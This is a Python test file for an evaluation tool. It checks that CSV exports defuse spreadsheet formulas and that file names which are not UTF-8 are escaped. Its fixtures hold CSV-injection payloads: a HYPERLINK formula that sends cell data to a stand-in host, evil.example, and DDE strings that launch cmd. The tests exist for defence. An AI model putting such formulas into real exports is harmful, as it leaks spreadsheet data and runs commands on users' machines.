"""What an evaluation writes out: spreadsheet formulas and names that are not UTF-8.

A dataset's ids and expectations, a variant's name and what a workspace's files are
called all reach the evaluation's exports. A cell starting with ``=``, ``+``, ``-`` or
``@`` is a live formula to the spreadsheet a CSV is opened in (CSV injection); every such
cell is written as text, prefixed with ``'`` as OWASP advises. A file name that is not
UTF-8 (a Latin-1 ``café``) reaches Python as a lone surrogate, which no UTF-8 sink can
write: it must be shown escaped (``caf\\xe9``) by the command line, the JSON and CSV
exports and the result store, never raise.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from supercontext_lab.eval import EvalCase, EvalReport, Expectations, Variant, evaluate
from supercontext_lab.harness import Thread
from supercontext_lab.routes import ModelRoute

from .support import MESSAGE, run_cli, scripted_orchestrator, write

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE_CASES = [
    EvalCase(
        id='=HYPERLINK("http://evil.example/?"&A1,"click")',
        message="Help me check the grant renewal budget",
        expect=Expectations(
            mentions=("@SUM(A1:A9)", "+cmd|' /C calc'!A0"),
            must_not_mention=("grant",),
            skills=("-2+3+cmd|' /C calc'!A0",),
            tools=("=1+1",),
        ),
    ),
    EvalCase(
        id="\tstarts with a tab",
        message="Help me check the grant renewal budget",
        expect=Expectations(skills=("\r=cmd",), tools=("\uff1d1+1",)),
    ),
]


def _report(tmp_path: Path) -> EvalReport:
    return evaluate(
        HOSTILE_CASES,
        [Variant.baseline(route=ModelRoute(kind="offline"))],
        cache_path=tmp_path / "cache.sqlite3",
        progress=False,
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_starts_a_formula(tmp_path: Path) -> None:
    """Dataset ids and expectations in to_csv: no cell starts a formula"""
    report = _report(tmp_path)
    for table in ("cases", "metrics"):
        text = report.to_csv(tmp_path / f"{table}.csv", table=table)
        cells = _cells(text)
        assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []
        assert (tmp_path / f"{table}.csv").read_text(encoding="utf-8") == text
    shown = "\n".join(_cells(report.to_csv()))
    assert "'=HYPERLINK(" in shown and "'\tstarts with a tab" in shown
    assert "'@SUM(A1:A9)" in shown and "'-2+3+cmd" in shown


def test_the_widget_export_writes_the_same_safe_cells(tmp_path: Path) -> None:
    """The comparison widget's Export CSV: the same cells, none a formula"""
    from supercontext_lab.lab.eval_widget import EvalComparison

    widget = EvalComparison(_report(tmp_path))
    for path in widget.export_csv(tmp_path / "export"):
        cells = _cells(path.read_text(encoding="utf-8"))
        assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------- 13. names


def _latin1_workspace(root: Path) -> Path:
    write(root / "memory" / "global" / "budget.md", "The grant renewal budget is 40k.\n")
    (root / "files").mkdir()
    for folder in ("memory", "files", ""):
        target = os.path.join(os.fsencode(root), os.fsencode(folder), b"caf\xe9 budget.txt")
        with open(target, "wb") as handle:
            handle.write(b"grant renewal budget notes\n")
    return root


def test_undecodable_names_are_escaped_in_a_turn(tmp_path: Path) -> None:
    """A Latin-1 file name in a turn's problems: shown as caf\\xe9, every text encodes"""
    root = _latin1_workspace(tmp_path / "ws")
    result = Thread(
        root, orchestrator_model=scripted_orchestrator(), super_context_enabled=True
    ).send(MESSAGE)
    assert result.scout is not None
    named = [p for p in result.scout.problems if "caf" in p]
    assert named and all("caf\\xe9 budget.txt" in p for p in named), named
    json.dumps(result.to_dict(), ensure_ascii=False).encode("utf-8")


def test_undecodable_names_are_escaped_by_every_export(tmp_path: Path) -> None:
    """evaluate() on that workspace: to_json, to_csv and the result store all write"""
    root = _latin1_workspace(tmp_path / "ws")
    report = evaluate(
        [EvalCase(id="latin1", message="Help me check the grant renewal budget")],
        cache_path=tmp_path / "cache.sqlite3",
        workspace=root,
        progress=False,
    )
    report.to_csv(tmp_path / "metrics.csv", table="metrics")
    for text in (report.to_json(tmp_path / "report.json"), report.to_csv(tmp_path / "cases.csv")):
        text.encode("utf-8")
        assert "caf\\xe9" in text.replace("\\\\", "\\")
    again = evaluate(
        [EvalCase(id="latin1", message="Help me check the grant renewal budget")],
        cache_path=tmp_path / "cache.sqlite3",
        workspace=root,
        progress=False,
    )
    assert again.reused_runs == 1
    assert again.results[0].problems == report.results[0].problems


@pytest.mark.parametrize("as_json", [False, True])
def test_the_eval_command_shows_undecodable_names_escaped(tmp_path: Path, as_json: bool) -> None:
    """supercontext-lab eval on that workspace: exit 0, no traceback, the name escaped"""
    root = _latin1_workspace(tmp_path / "ws")
    dataset = write(
        tmp_path / "cases.jsonl",
        json.dumps({"id": "latin1", "message": "Help me check the grant renewal budget"}) + "\n",
    )
    done = run_cli(
        "eval", "--dataset", str(dataset), "--workspace", str(root),
        *(["--json"] if as_json else []), timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    if as_json:
        json.loads(done.stdout)
